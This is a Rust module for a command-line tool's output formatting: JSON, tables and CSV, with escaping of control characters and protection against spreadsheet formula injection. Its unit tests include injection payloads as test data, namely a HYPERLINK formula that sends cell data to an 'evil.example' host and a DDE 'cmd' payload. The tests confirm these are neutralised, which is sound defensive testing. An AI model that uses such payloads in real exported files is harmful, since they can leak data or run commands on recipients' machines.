//! Printing: JSON for programs, tables for people.

use crate::base::error::CtlError;
use comfy_table::{
    Attribute, Cell, CellAlignment, ColumnConstraint, ContentArrangement, LineStyle, Table, TableStyle,
};
use domain_base::digest::Sha256Hex;
use domain_base::text_form::{visible_colored_text, visible_json, visible_line, visible_text};
use serde::Serialize;
use serde_json::Value;
use std::io::{IsTerminal, StdoutLock, Write};
use std::{env, io};

/// Shown for a record whose validity has no known end.
pub const NO_END: &str = "no end";
/// Digits of a run's id that are shown.
const RUN_ID_DIGITS: usize = 12;

/// Prints one JSON document, indented.
pub fn print_json(out: &mut dyn Write, value: &impl Serialize) -> Result<(), CtlError> {
    let text = serde_json::to_string_pretty(value).map_err(io::Error::from)?;
    Ok(writeln!(out, "{}", visible_json(&text))?)
}

/// Like [`visible_line`], cut to `chars_max` characters.
pub fn shorten_line(text: &str, chars_max: usize) -> String {
    let cut = text.char_indices().nth(chars_max).map(|(at, _)| at);
    match cut.and_then(|at| text.get(..at)) {
        Some(head) => visible_line(head).into_owned() + "…",
        None => visible_line(text).into_owned(),
    }
}

/// A number, or that it is unknown.
pub fn format_known(number: Option<u64>) -> String {
    number.map_or_else(|| "an unknown number".to_owned(), |number| number.to_string())
}

/// A table with a heading; row by row if the terminal is too narrow.
pub fn format_table<const N: usize>(heading: [&str; N], rows: Vec<[String; N]>) -> String {
    let cells =
        rows.iter().map(|row| row.iter().map(|cell| visible_line(cell).into_owned()).collect()).collect();
    if let Some(table) = OutputStyle::for_stdout().data_table(&heading, cells) {
        return table_text(&table);
    }
    let row = |row: [String; N]| format_pairs(&heading.into_iter().zip(row).collect::<Vec<_>>());
    rows.into_iter().map(row).collect::<Vec<_>>().join("\n")
}

/// Default number of rows for people.
const ROWS: usize = 100;

/// Maximum number of rows to print: `requested`, else all for programs, else [`ROWS`].
pub fn row_limit(requested: Option<usize>, for_programs: bool) -> usize {
    requested.unwrap_or(if for_programs { usize::MAX } else { ROWS })
}

/// Prints on standard error that more results exist. `next` is the value of `--after` for the next page, if the verb has
/// pages.
pub fn warn_of_omitted_rows(next: Option<&str>) {
    let next = next.map(|next| format!("; continue with --after {next}")).unwrap_or_default();
    print_note(&format!("oraclectl: there are more results than -n allows; they are left out{next}"));
}

/// The first digits of a run's id, which usually identify it.
pub fn short_run_id(run_id: &Sha256Hex) -> String {
    run_id.as_str().chars().take(RUN_ID_DIGITS).collect()
}

/// The name of who requested something. A numeric user id is marked as one.
pub fn format_requester(name: &str) -> String {
    let is_uid = name.bytes().all(|byte| byte.is_ascii_digit());
    if is_uid { format!("uid {name}") } else { name.to_owned() }
}

/// A user with a name and a numeric user id; only the id if the name is unknown.
pub fn format_user(uid: &str, name: Option<&str>) -> String {
    let uid = format_requester(uid);
    name.map_or_else(|| uid.clone(), |name| format!("{name} ({uid})"))
}

/// The same as CSV (RFC 4180).
pub fn print_csv<const N: usize>(
    out: &mut dyn Output,
    heading: [&str; N],
    rows: Vec<[String; N]>,
) -> Result<(), CtlError> {
    print_csv_rows(out, heading.map(str::to_owned).to_vec(), rows.into_iter().map(Vec::from).collect())
}

/// The same for a table with a variable number of columns. Cells are exact, so that a program reads what the daemon has.
/// Only on a terminal are they escaped, because a terminal obeys control characters.
pub fn print_csv_rows(
    out: &mut dyn Output,
    heading: Vec<String>,
    rows: Vec<Vec<String>>,
) -> Result<(), CtlError> {
    write_csv(out.exact(), [heading].into_iter().chain(rows), io::stdout().is_terminal())
}

fn write_csv(
    out: &mut dyn Write,
    rows: impl Iterator<Item = Vec<String>>,
    is_terminal: bool,
) -> Result<(), CtlError> {
    let mut csv = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(out);
    for row in rows {
        let cells =
            row.into_iter().map(|cell| if is_terminal { visible_line(&cell).into_owned() } else { cell });
        csv.write_record(cells.collect::<Vec<_>>()).map_err(io::Error::from)?;
    }
    Ok(csv.flush()?)
}

/// Rows as CSV for people, who open it in a spreadsheet: a cell that begins like a formula has an apostrophe first, as OWASP
/// recommends, so that it is shown as text. Cells are quoted, except for numbers. Programs need the exact values of [`print_csv`].
pub(crate) fn spreadsheet_csv(rows: impl Iterator<Item = Vec<String>>) -> Result<Vec<u8>, CtlError> {
    let mut csv = csv::WriterBuilder::new().quote_style(csv::QuoteStyle::NonNumeric).from_writer(Vec::new());
    for row in rows {
        let cells = row.into_iter().map(|cell| if is_formula(&cell) { format!("'{cell}") } else { cell });
        csv.write_record(cells.collect::<Vec<_>>()).map_err(io::Error::from)?;
    }
    csv.into_inner().map_err(|error| CtlError::from(error.into_error()))
}

/// Whether a spreadsheet may calculate a cell: its first character begins a formula, also in the full-width form, or is a control character
/// after which a formula can follow.
fn is_formula(cell: &str) -> bool {
    const FIRST: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
    let is_negative_number = cell.parse::<f64>().is_ok()
        && cell.strip_prefix('-').is_some_and(|rest| rest.starts_with(|digit: char| digit.is_ascii_digit()));
    cell.starts_with(FIRST) && !is_negative_number
}

/// Names and values, one pair per line.
pub fn format_pairs(pairs: &[(&str, String)]) -> String {
    let width = pairs.iter().map(|(name, _)| name.chars().count()).max().unwrap_or(0);
    pairs.iter().map(|(name, value)| format!("{name:width$}  {}\n", visible_line(value))).collect()
}

/// A decision for people: the decision, its reason and its grounds.
pub fn format_decision(decision: &Value) -> String {
    let field = |name: &str| match decision.get(name) {
        Some(Value::String(text)) => text.clone(),
        Some(other) => other.to_string(),
        None => String::new(),
    };
    let approved = decision.get("approved").and_then(Value::as_bool).unwrap_or(false);
    let flags = decision.get("flags").and_then(Value::as_array);
    let flags: Vec<_> = flags.into_iter().flatten().filter_map(Value::as_str).collect();
    format_pairs(&[
        ("decision", if approved { "approved".into() } else { "rejected".into() }),
        ("reason", field("crosscheck_reason")),
        ("verdict", field("verdict_label")),
        ("coherence", format!("{} (threshold {})", field("coherence_score"), field("threshold"))),
        ("flags", if flags.is_empty() { "none".into() } else { flags.join(", ") }),
    ])
}

/// Prints the error of a verb, unless its reason was printed already.
pub fn print_error(error: &CtlError, json: bool, out: &mut dyn Write) {
    if let (true, CtlError::Problem { document, .. }) = (json, error) {
        drop(writeln!(out, "{}", visible_json(&document.to_string())));
    }
    let was_printed = matches!(
        error,
        CtlError::NotApproved
            | CtlError::NotVerified
            | CtlError::ProbeFailed
            | CtlError::RunFailed
            | CtlError::Printed(_)
            | CtlError::Verb { was_printed: true, .. }
    );
    if !was_printed {
        print_note(&format!("oraclectl: {error}"));
    }
}

/// The output of a verb. What is written is shown to people, with escapes for characters that hide or reorder text.
pub trait Output: Write {
    /// The same output for bytes that a program reads. On a terminal, they get escapes too.
    fn exact(&mut self) -> &mut dyn Write;
}

/// Standard output.
pub(crate) struct StandardOutput {
    stream: StdoutLock<'static>,
    is_terminal: bool,
    /// The beginning of a character whose other bytes are not written yet.
    incomplete: Vec<u8>,
}

impl StandardOutput {
    pub(crate) fn new() -> Self {
        let stream = io::stdout().lock();
        Self { is_terminal: stream.is_terminal(), stream, incomplete: Vec::new() }
    }

    fn write_visible(&mut self, bytes: &[u8]) -> io::Result<()> {
        let text = String::from_utf8_lossy(bytes);
        if self.is_terminal {
            return self.stream.write_all(visible_colored_text(&text).as_bytes());
        }
        self.stream.write_all(visible_text(&text).as_bytes())
    }
}

impl Write for StandardOutput {
    fn write(&mut self, written: &[u8]) -> io::Result<usize> {
        let mut bytes = std::mem::take(&mut self.incomplete);
        bytes.extend_from_slice(written);
        let whole = match std::str::from_utf8(&bytes) {
            Err(error) if error.error_len().is_none() => error.valid_up_to(),
            _ => bytes.len(),
        };
        self.incomplete = bytes.split_off(whole);
        self.write_visible(&bytes)?;
        Ok(written.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        let incomplete = std::mem::take(&mut self.incomplete);
        self.write_visible(&incomplete)?;
        self.stream.flush()
    }
}

impl Output for StandardOutput {
    fn exact(&mut self) -> &mut dyn Write {
        if self.is_terminal { self } else { &mut self.stream }
    }
}

#[cfg(test)]
impl Output for Vec<u8> {
    fn exact(&mut self) -> &mut dyn Write {
        self
    }
}

/// Prints a line on standard error. Without a reader, the line is lost.
pub fn print_note(line: &str) {
    drop(writeln!(io::stderr(), "{}", visible_line(line)));
}

/// Maximum width of prose and statistics, in columns; longer lines are hard to read.
const WIDTH_MAX: u16 = 100;
/// Minimum width, in columns: the terminal wraps longer lines, which is better than tables with broken words.
const WIDTH_MIN: u16 = 60;
/// Minimum width for all columns of a table; below it, less important ones are left out.
const WIDTH_OF_ALL: u16 = 80;

/// Minimum width of a column of data, in columns of the terminal.
const COLUMN_MIN: usize = 10;

/// The width of the output, and whether it is colored.
#[derive(Debug, Clone, Copy)]
pub struct OutputStyle {
    pub width: u16,
    /// The width of the terminal: tables of data use all of it.
    pub columns: u16,
    pub color: bool,
    /// Whether the width is unknown, as in a pipe: text is then neither cut nor wrapped.
    pub is_whole: bool,
}

impl OutputStyle {
    /// The look of standard output. `COLUMNS` sets the width, otherwise the terminal does. It is colored on a terminal
    /// unless `NO_COLOR` is set.
    pub fn for_stdout() -> Self {
        let no_color = env::var_os("NO_COLOR").is_some_and(|value| !value.is_empty());
        let from_env =
            env::var("COLUMNS").ok().and_then(|columns| columns.parse().ok()).filter(|columns| *columns > 0);
        let columns = from_env.or_else(|| Table::new().width());
        let look = Self::new(columns.unwrap_or(WIDTH_MAX), io::stdout().is_terminal() && !no_color);
        Self { is_whole: columns.is_none(), ..look }
    }

    pub fn new(columns: u16, color: bool) -> Self {
        Self { width: columns.clamp(WIDTH_MIN, WIDTH_MAX), columns, color, is_whole: false }
    }

    /// Whether less important columns are left out so that words do not break.
    pub const fn is_narrow(self) -> bool {
        self.width < WIDTH_OF_ALL
    }

    /// An empty table with this look. Columns are right-aligned for numbers; the `text` columns are
    /// left-aligned, and their words are never broken.
    pub fn table(self, header: &[&str], text: &[usize]) -> Table {
        let mut table = self.empty_table(header);
        table.set_width(self.width);
        for (index, column) in table.column_iter_mut().enumerate() {
            if text.contains(&index) {
                column.set_constraint(ColumnConstraint::ContentWidth);
            } else {
                column.set_cell_alignment(CellAlignment::Right);
            }
        }
        table
    }

    /// The text in green if it is good, else in red; unchanged without colors.
    pub fn paint(self, text: &str, is_good: bool) -> String {
        let code = if is_good { 32 } else { 31 };
        if self.color { format!("\u{1b}[{code}m{text}\u{1b}[0m") } else { text.to_owned() }
    }

    /// A table of data as wide as the terminal; `None` if the terminal is too narrow for the number of columns.
    pub fn data_table(self, header: &[&str], rows: Vec<Vec<String>>) -> Option<Table> {
        let mut table = self.empty_table(header);
        if self.is_whole {
            table.set_content_arrangement(ContentArrangement::Disabled);
        } else if header.len() * COLUMN_MIN <= usize::from(self.columns) {
            table.set_width(self.columns);
        } else {
            return None;
        }
        table.add_rows(rows);
        Some(table)
    }

    fn empty_table(self, header: &[&str]) -> Table {
        let mut table = Table::new();
        table
            .load_style(TableStyle::new().header_separator(LineStyle::none().fill('─')))
            .set_content_arrangement(ContentArrangement::Dynamic)
            .set_header(header.iter().map(|name| Cell::new(name).add_attribute(Attribute::Bold)));
        if self.color {
            table.enforce_styling();
        } else {
            table.force_no_tty();
        }
        table
    }
}

/// The lines of a table, without trailing white space.
pub fn table_text(table: &Table) -> String {
    table.lines().map(|line| line.trim_end().to_owned()).collect::<Vec<_>>().join("\n")
}

/// Writes a table below its title; only the title if the table is empty.
pub fn write_section(out: &mut dyn Write, title: &str, table: &Table) -> io::Result<()> {
    writeln!(out, "\n{title}")?;
    if table.is_empty() {
        return Ok(());
    }
    writeln!(out)?;
    writeln!(out, "{}", table_text(table))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn value_of_a_pair_stays_on_its_line() {
        let lines = format_pairs(&[("flags", "x\ndecision   approved".into())]);
        assert_eq!(lines.lines().count(), 1, "{lines}");
    }

    #[test]
    fn csv_is_exact_for_programs_and_escaped_on_a_terminal() {
        let row = ["line\nbreak", "line\\nbreak", "\u{1b}[31m, red"].map(str::to_owned).to_vec();
        let written = |is_terminal| {
            let mut csv = Vec::new();
            write_csv(&mut csv, [row.clone()].into_iter(), is_terminal).expect("the write succeeds");
            csv
        };
        let read = |csv: Vec<u8>| {
            let mut rows =
                csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_slice()).into_records();
            rows.next().expect("a row").expect("valid CSV").iter().map(str::to_owned).collect::<Vec<_>>()
        };
        assert_eq!(read(written(false)), row);
        assert!(!written(true).contains(&0x1b));
    }

    #[test]
    fn formulas_are_text_in_csv_for_people() {
        for (cell, written) in [
            ("=HYPERLINK(\"http://evil.example/\"&A1)", "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1)\""),
            ("@SUM(1)", "\"'@SUM(1)\""),
            ("+1-1", "\"'+1-1\""),
            ("+49 30", "\"'+49 30\""),
            ("-1+cmd|' /C calc'!A0", "\"'-1+cmd|' /C calc'!A0\""),
            ("-inf", "\"'-inf\""),
            ("-", "\"'-\""),
            ("\t=1", "\"'\t=1\""),
            ("\r=1", "\"'\r=1\""),
            ("\n=1", "\"'\n=1\""),
            ("\0=1", "\"'\0=1\""),
            ("＝1", "\"'＝1\""),
            ("-12.5", "-12.5"),
            ("-3e-9", "-3e-9"),
            ("12", "12"),
            ("a=b", "\"a=b\""),
            ("x;=1+1", "\"x;=1+1\""),
            ("'=1", "\"'=1\""),
        ] {
            let csv = spreadsheet_csv([vec!["first".to_owned(), cell.to_owned()]].into_iter()).expect("CSV");
            assert_eq!(String::from_utf8(csv).expect("text"), format!("\"first\",{written}\n"), "{cell:?}");
            let mut exact = Vec::new();
            write_csv(&mut exact, [vec![cell.to_owned()]].into_iter(), false).expect("CSV");
            let mut read = csv::ReaderBuilder::new().has_headers(false).from_reader(exact.as_slice());
            assert_eq!(&read.records().next().expect("a row").expect("CSV")[0], cell, "programs read it");
        }
    }

    #[test]
    fn table_is_no_wider_than_the_terminal() {
        let rows =
            vec![["world-bank-population", "it is missing, or it is empty", "7"].map(str::to_owned).to_vec()];
        let drawn = |columns| {
            OutputStyle::new(columns, false).data_table(&["source", "reason", "position"], rows.clone())
        };
        for columns in [200, 80, 60, 50, 30] {
            let drawn = table_text(&drawn(columns).expect("10 columns each"));
            assert!(drawn.lines().all(|line| line.chars().count() <= usize::from(columns)), "{drawn}");
        }
        assert!(drawn(29).is_none());
    }

    #[test]
    fn table_of_unknown_width_breaks_no_line() {
        let look = OutputStyle { is_whole: true, ..OutputStyle::new(10, false) };
        let drawn =
            look.data_table(&["a"], vec![vec!["many words in one line, more than there is room for".into()]]);
        assert_eq!(drawn.map(|table| table.lines().count()), Some(3));
    }
}
